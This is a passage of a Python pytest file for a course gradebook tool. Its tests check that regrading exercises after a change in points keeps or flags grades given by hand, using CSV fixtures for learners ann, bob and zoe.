    (tmp_path / "grades.csv").write_text(BOOK_OUT_OF_10, encoding="utf-8")
    now = exercises_now(monkeypatch, ex03=12)
    regraded = {learner: {"ex03": gradebook.Grade("b.py", 12, "passed")} for learner in ("ann", "bob", "zoe")}
    _, _, line = gradebook.merge(gradebook.read_earlier(tmp_path), [now["ex03"]], regraded)
    assert line == ("kept ex01 from the earlier grades.csv (ONLY=ex03 regraded ex03); the regrading replaced 1 grade "
                    "given by hand there: bob ex03 7 of 10 (now 12) (give them again if they still stand)")


RAISED_BY_HAND = "learner,exercise,file,points,reason\nbob,ex03,,0,missing\n"     # bob's ex03: 0 -> 10 by hand


@pytest.mark.parametrize("book, reasons, held", [
    (BOOK_OUT_OF_10.replace("bob,10,7,17", "bob,10,10,20"), None, ""),
    (BOOK_OUT_OF_10.replace("bob,10,7,17", "bob,10,10,20"), RAISED_BY_HAND, ""),     # the grader gives it now: 12
    (BOOK_OUT_OF_10, None, "it held 1 grade given by hand (bob ex03 7 of 10)"),
], ids=["passes-only", "a-pass-by-hand-the-grader-now-gives", "a-grade-by-hand"])
def test_without_only_a_pass_out_of_the_old_points_is_no_grade_given_by_hand(book, reasons, held, tmp_path,
                                                                             monkeypatch):
    """A whole class graded again after ex03 went from 10 to 12 points: each earlier pass of 10 was taken for a grade
    given by hand, and the earlier book kept aside for it."""
    folder = write_class(tmp_path / "class", {learner: {"notes.txt": ""} for learner in ("ann", "bob", "zoe")})
    (folder / "grades.csv").write_text(book, encoding="utf-8")
    if reasons is not None:
        (folder / "grades_reasons.csv").write_text(reasons, encoding="utf-8")
    now = exercises_now(monkeypatch, ex03=12)
    passed = {"ann": ["ex03"], "bob": ["ex01", "ex03"], "zoe": ["ex01"]}          # graded afresh, out of today's
    fresh = {learner: {e.name: gradebook.Grade("", e.points if e.name in mine else 0, "graded") for e in now.values()}
             for learner, mine in passed.items()}
    assert gradebook.keep_what_would_be_lost(folder, fresh) == (
        f"kept the earlier grades.csv as grades_earlier.csv: {held}; copy what still stands into the new grades.csv"
        if held else "")
